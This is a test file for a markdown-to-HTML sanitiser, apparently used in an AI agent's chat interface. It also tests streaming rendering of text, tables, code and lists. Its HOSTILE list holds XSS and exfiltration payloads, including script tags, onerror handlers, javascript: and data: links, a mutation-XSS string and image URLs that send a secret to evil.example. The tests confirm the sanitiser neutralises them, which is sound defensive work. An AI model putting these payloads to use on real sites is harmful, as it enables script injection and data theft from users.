// @vitest-environment jsdom

import { describe, expect, test } from "vitest";
import { decorateCode, languageOf, StreamingCode } from "../src/components/markdown/code";
import { type MarkdownBlock, parseBlocks, StreamingText } from "../src/components/markdown/parse";
import { sanitise } from "../src/components/markdown/sanitise";
import { StreamingTable } from "../src/components/markdown/table";

function render(markdown: string): HTMLElement {
  const page = document.createElement("div");
  const fileUrl = (path: string) => `/api/agents/a/files/${path.replace(/^\/+/, "")}`;
  for (const { html } of parseBlocks(markdown)) page.append(sanitise(html, { fileUrl }));
  return page;
}

/** A block as it is read: code by its language and lines, tables by their rows, whether they still grow or not. */
function read({ html, code, earlier }: MarkdownBlock): string {
  if (code) return `${code.language}: ${code.text.trimEnd()}`;
  if (earlier) {
    const node = document.createElement("div");
    new StreamingTable(node, earlier, html, (part) => sanitise(part));
    return rows(node);
  }
  if (html.startsWith("<table>")) return rows(sanitise(html));
  const whole = html.startsWith("<pre>") && sanitise(html).querySelector("code");
  return whole ? `${languageOf(whole)}: ${whole.textContent?.trimEnd()}` : html;
}

function rows(root: ParentNode): string {
  const found = [...root.querySelectorAll("tr")].map((row) => row.outerHTML);
  return [...found, root.textContent?.replace(/\s+/g, " ")].join("\n");
}

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "![](https://evil.example/?q=SECRET)",
  "![](//evil.example/pixel.png)",
  '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">',
  '<svg><image href="https://evil.example/x.png"/><script>alert(1)</script></svg>',
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  '<div style="background:url(https://evil.example/x)">styled</div>',
  "<style>body { background: url(https://evil.example) }</style>",
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt&colon;alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox)",
  '<a href="https://ok.example" ping="https://evil.example" onclick="alert(1)">link</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<p id="app" name="location">clobber</p>',
  '<div class="backdrop shell">costume</div>',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
];

const FORBIDDEN = new Set(
  "script style form input button svg video audio iframe object embed link meta base math".split(
    " ",
  ),
);

/** The same as HTML, so that each of the two sieves has to hold alone. */
function renderHtml(html: string): HTMLElement {
  const page = document.createElement("div");
  page.append(sanitise(html));
  return page;
}

describe("a hostile text", () => {
  const ways = HOSTILE.flatMap((text) => [
    { way: "Markdown", text, page: () => render(text) },
    { way: "HTML", text, page: () => renderHtml(text) },
  ]);

  test.each(ways)("does nothing as $way: $text", ({ page }) => {
    for (const element of page().querySelectorAll("*")) {
      expect(FORBIDDEN).not.toContain(element.localName);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^name$|^ping$|^srcset$|^poster$/);
        if (name === "src") expect(value).not.toMatch(/^(?:https?:)?\/\/|^javascript:|svg/i);
        if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
        if (name === "class") {
          expect(value).toMatch(/^(?:remote-image|table-scroll|task|language-\S+)$/);
        }
      }
    }
  });

  test("keeps its words", () => {
    expect(render("[click](javascript:alert(1))").textContent).toContain("click");
    const code = render("```html\n<img src=x>\n```").querySelector("code");
    expect(code?.textContent).toContain("<img src=x>");
    expect(render("<script>alert(1)</script>").textContent).toContain("<script>alert(1)</script>");
    expect(render("use the <select> element").textContent).toContain("the <select> element");
  });
});

describe("a friendly text", () => {
  test("has links that leak nothing", () => {
    const link = render("[docs](https://ok.example/a?b=c)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://ok.example/a?b=c");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.target).toBe("_blank");
  });

  test("offers pictures of other sites as links", () => {
    const page = render("![A graph](https://graphs.example/x.png)");
    expect(page.querySelector("img")).toBeNull();
    const box = page.querySelector("a.remote-image");
    expect(box?.textContent).toContain("A graph");
    expect(box?.textContent).toContain("graphs.example");
  });

  test("shows pictures of its own", () => {
    expect(render("![x](/attachments/x.png)").querySelector("img")?.getAttribute("src")).toBe(
      "/api/agents/a/files/attachments/x.png",
    );
    expect(render("![x](data:image/png;base64,AAAA)").querySelector("img")).not.toBeNull();
  });

  test("may use plain HTML", () => {
    const page = render('H<sub>2</sub>O<br><a href="https://ok.example">ok</a>\n\n<!-- quiet -->');
    expect(page.querySelector("sub")?.textContent).toBe("2");
    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://ok.example");
    expect(page.textContent).not.toContain("quiet");
  });

  test("has tables, tasks and code with its language", () => {
    const page = render("| a | b |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n\n```py\nx = 1\n```");
    expect(page.querySelector(".table-scroll th")?.getAttribute("align")).toBe("right");
    expect(page.querySelector("li.task")?.textContent).toContain("☑");
    decorateCode(page, false);
    expect(page.querySelector(".code-bar")?.textContent).toContain("py");
    expect(page.querySelector(".code-bar button")?.textContent).toBe("Copy");
  });

  test("reads the same while it grows as when it is complete", () => {
    const text = [
      "# One\r\n\r\nTwo\nlazy *words",
      "on two lines*\n===\n\n1. three\n   - four\n\n   five\n2. six\n\n",
      "| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n\ny = 2\n```\n> seven\nlazy\n\n---\n\n<b>eight</b>",
    ].join("");
    for (let step = 1; step < 9; step++) {
      const growing = new StreamingText();
      for (let end = 0; end <= text.length; end += step) {
        const sofar = text.slice(0, end).replace(/\r$/, "");
        expect(growing.blocks(sofar).map(read)).toEqual(parseBlocks(sofar).map(read));
      }
    }
  });

  test("code that grows is added to, and what is there stays as it is", () => {
    const node = document.createElement("div");
    const growing = new StreamingCode(node, "py");
    const line = "total = add(one, two)\n";
    for (let count = 1; count <= 600; count++) expect(growing.write(line.repeat(count))).toBe(true);
    const code = node.querySelector("code");
    const first = code?.firstElementChild;
    expect(code?.textContent).toBe(line.repeat(600));
    expect(code?.children.length).toBeGreaterThan(2);
    expect(growing.write(`${line.repeat(600)}end`)).toBe(true);
    expect(code?.firstElementChild).toBe(first);
    expect(growing.write("something else")).toBe(false);
    expect(code?.textContent).toBe(`${line.repeat(600)}end`);
  });

  test("a table that grows reads the same as when it is complete, whatever its cells do", () => {
    const lines = Array.from({ length: 20 }, (_, index) => `| ${index} | **b** \\| c |`);
    const head = "Before:\n\n| a | b\n|--:|---\n";
    const endings = ["\n\nAfter", "\n- point", "\n| 1 | </td></table> out |\n| 2 |", "\n---\nend"];
    endings.push(`\n\n${head}${lines.join("\n")}`);
    for (const ending of endings) {
      const text = `${head}${lines.join("\n")}${ending}`;
      const growing = new StreamingText();
      for (let end = 290; end < text.length + 23; end += 23) {
        const sofar = text.slice(0, end);
        expect(growing.blocks(sofar).map(read)).toEqual(parseBlocks(sofar).map(read));
      }
    }
  });

  test("a table that grows keeps the rows that it has", () => {
    const node = document.createElement("div");
    const growing = new StreamingText();
    const table = (count: number) => `| a |\n|---|\n${"| same |\n".repeat(count)}`;
    const [first] = growing.blocks(table(16));
    const drawn = new StreamingTable(node, first?.earlier ?? [], first?.html ?? "", (html) =>
      sanitise(html),
    );
    const row = node.querySelector("td");
    for (let count = 17; count <= 40; count++) {
      const [block] = growing.blocks(table(count));
      expect(drawn.write(block?.earlier ?? [], block?.html ?? "")).toBe(true);
      expect(node.querySelectorAll("td")).toHaveLength(count);
    }
    expect(node.querySelector("td")).toBe(row);
    expect(drawn.write(["<table></table>"], "")).toBe(false);
  });

  test("a list that grows keeps its first points as they are, and counts on", () => {
    const growing = new StreamingText();
    const points = Array.from({ length: 40 }, (_, index) => `${index + 1}. point\n`);
    let last = growing.blocks("");
    for (let count = 1; count <= points.length; count++) {
      const blocks = growing.blocks(`Before:\n\n${points.slice(0, count).join("")}`);
      expect(blocks.map(({ html }) => html).slice(0, -2)).toEqual(
        last.map(({ html }) => html).slice(0, Math.max(0, blocks.length - 2)),
      );
      last = blocks;
    }
    expect(last.length).toBeGreaterThan(3);
    expect(last.slice(2).every(({ continues }) => continues)).toBe(true);
    const starts = last.slice(2).map(({ html }) => Number(/start="(\d+)"/.exec(html)?.[1]));
    expect(starts.at(-1)).toBeGreaterThan(24);
    expect(
      last
        .map(({ html }) => html)
        .join("")
        .match(/<li>/g),
    ).toHaveLength(40);
  });
});
